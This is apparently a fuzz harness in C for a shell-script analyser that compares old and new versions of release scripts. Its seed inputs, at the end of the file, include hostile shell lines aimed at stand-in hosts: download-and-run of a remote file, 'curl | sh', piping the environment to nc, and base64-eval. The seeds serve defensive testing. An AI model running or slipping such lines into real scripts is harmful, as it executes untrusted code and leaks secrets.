/*
 * A shell script that is all new, or the NEW of a pair. The publisher of the release chooses every
 * byte. First byte: 0 = no OLD; then OLD up to the first byte 0xff, then NEW.
 */
#include "fuzz.h"

#include "read/sh_int.h"
#include "tool_seeds.h"

struct seen {
	struct read_out out; /* first */
	size_t limit;
	uint64_t sum; /* of all facts: the same input gives the same */
};

static uint32_t on_unit(struct read_out *o, const struct unit *u)
{
	return o->n_units++;
}

static void mix(struct seen *s, struct str text)
{
	for (size_t i = 0; i < text.len; i++)
		s->sum = (s->sum ^ (uint8_t)text.p[i]) * 0x100000001b3u;
}

static void on_fact(struct read_out *o, const struct fact *f)
{
	struct seen *s = (struct seen *)o;

	FUZZ_CHECK(f->kind > FACT_NONE && f->kind < FACT_N && !(f->flags & ~(uint32_t)FACT_FLAGS_ALL));
	FUZZ_CHECK(f->unit == FACT_NO_UNIT || f->unit < o->n_units);
	FUZZ_CHECK(f->offset <= s->limit && f->length <= s->limit - f->offset);
	FUZZ_CHECK(f->key.len && f->key.len <= FACT_KEY_BYTES && f->value.len <= FACT_VALUE_BYTES &&
		f->detail.len <= FACT_DETAIL_BYTES && f->excerpt.len <= FACT_EXCERPT_BYTES);
	s->sum = s->sum * 31 + (uint64_t)f->kind * 7 + f->offset;
	mix(s, f->key);
	mix(s, f->value);
	mix(s, f->detail);
	o->n_facts++;
}

static void on_cover(struct read_out *o, enum cover_grade grade, uint64_t bytes, const char *why)
{
}

static void script_check(const struct sh_script *s)
{
	for (size_t i = 0; i < s->n; i++) {
		const struct sh_command *c = &s->commands[i];

		FUZZ_CHECK(c->from <= c->to && c->to <= s->text.len);
		FUZZ_CHECK(c->n_assigns <= c->n_words && c->word + c->n_words <= s->n_words);
		FUZZ_CHECK(c->redirect + c->n_redirects <= s->n_redirects);
		FUZZ_CHECK(c->parent == SH_NONE || c->parent < i);
		FUZZ_CHECK(c->pipe_in == SH_NONE || c->pipe_in < i);
		FUZZ_CHECK(c->kind == SH_SIMPLE || (c->last != SH_NONE && c->last >= i && c->last < s->n));
	}
	for (size_t i = 0; i < s->n_words; i++)
		FUZZ_CHECK(s->words[i].from <= s->words[i].to && s->words[i].to <= s->text.len);
	for (size_t i = 0; i < s->n_redirects; i++)
		FUZZ_CHECK(s->redirects[i].target.from <= s->redirects[i].target.to && s->redirects[i].target.to <= s->text.len);
}

static uint64_t analyse(struct str old, struct str new_, bool has_old)
{
	struct seen seen = {.out = {on_unit, on_fact, on_cover, 0, 0}, .limit = new_.len};
	struct budget budget = {.max_steps = 1 << 22, .max_bytes = 1 << 28, .max_members = 1000, .max_depth = 64};
	struct arena arena;
	struct read_in in = {.path = STR("x.sh"), .old = cursor_of(old.p, old.len), .new_ = cursor_of(new_.p, new_.len),
		.has_old = has_old, .arena = &arena, .budget = &budget, .out = &seen.out};
	struct sh_script script;
	struct line_index *lines;
	struct unit_span *units;
	struct align al;
	enum status status;
	size_t n;

	arena_init(&arena, (size_t)2 << 30);
	status = sh_parse(&arena, &budget, new_, &script);
	FUZZ_CHECK(status == STATUS_OK || status == STATUS_LIMIT);
	script_check(&script);
	(void)align_texts(&in, LANGUAGE_SHELL, has_old ? old : STR_NONE, new_, &al);
	(void)align_units(&in, LANGUAGE_SHELL, new_, old, &al, &units, &n);
	lines = line_index_make(&arena, new_);
	status = sh_analyse(&in, new_, 0, has_old ? old : STR_NONE, &al, units, n, lines);
	FUZZ_CHECK(status == STATUS_OK || status == STATUS_LIMIT);
	if (has_old && str_equal(old, new_))
		FUZZ_CHECK(seen.out.n_facts == 0);
	arena_release(&arena);
	return seen.sum;
}

int LLVMFuzzerTestOneInput(const uint8_t *bytes, size_t n)
{
	const uint8_t *cut = n > 1 ? memchr(bytes + 1, 0xff, n - 1) : NULL;
	struct str old, new_;
	bool has_old = n && bytes[0] && cut;

	if (n < 2)
		return 0;
	old = cut ? str_view(bytes + 1, (size_t)(cut - bytes - 1)) : STR("");
	new_ = cut ? str_view(cut + 1, n - (size_t)(cut + 1 - bytes)) : str_view(bytes + 1, n - 1);
	FUZZ_CHECK(analyse(old, new_, has_old) == analyse(old, new_, has_old));
	(void)analyse(new_, new_, true);
	return 0;
}

static void seed(void (*run)(const void *bytes, size_t n), const char *old, const char *new_)
{
	char bytes[4096];
	int n = old ? snprintf(bytes, sizeof(bytes), "\x01%s\xff%s", old, new_) : snprintf(bytes, sizeof(bytes), "\x02%s", new_);

	run(bytes, (size_t)n);
}

void fuzz_seeds(void (*run)(const void *bytes, size_t n))
{
	literal_seeds("12", "read/test_sh.c", run);
	seed(run, NULL, "curl -fsSLo a https://c.example/a && chmod +x a && ./a || true\n");
	seed(run, NULL, "a=(x y); b=${a[1]:0:1}; eval \"$(echo Y2F0 | base64 -d)\" <<< $b; f() { env | nc 192.0.2.9 1; }; f\n");
	seed(run, NULL, "cat <<-'E' > ~/.bashrc\n\tx\n\tE\nfor i in {a,b}; do read x < <(tr a-z n-za-m); done &> /dev/null &\n");
	seed(run, NULL, "case $1 in a|b) x;; *) if [ \"$(date)\" ]; then :; fi;; esac; while :; do printf '\\x41%s' `id`; done | sh\n");
	seed(run, NULL, "${x:-${y%z}} ${!x//a/b} $((1+2)) $'\\u0041' \"${x^^}\" ((i++)) [[ a =~ b ]] coproc x { y; }\n");
	seed(run, NULL, "#!/bin/bash\n[[ x || curl -so a http://c.example/ ]]; [[\n-n $a && ! ( ${b:-x y} == \"z\" ) ||\n$(c d) -eq 1 ]] && cat > a.c <<E\nint socket, dup2;\nE\ncc a.c -o b; [[ $a\nb ]]\n");
	seed(run, "set -e\nmake\n", "set -e\ncurl -k https://c.example/ | sh\nmake\n");
}
